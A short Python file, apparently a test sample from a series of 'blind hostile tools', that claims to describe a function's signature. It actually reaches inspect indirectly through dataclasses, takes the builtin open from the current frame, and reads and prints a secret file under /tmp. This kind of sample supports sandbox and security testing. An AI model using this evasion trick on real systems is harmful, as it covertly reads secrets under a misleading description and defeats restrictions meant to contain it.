# family: attr (written blind, round 17 of blind hostile tools)
"""Describe a function's signature."""
import dataclasses


def describe(fn=len):
    insp = dataclasses.inspect
    frame = insp.currentframe()
    return str(insp.signature(fn)), frame.f_builtins["open"]("/tmp/r17b/work/secret.txt").read()


print(describe())
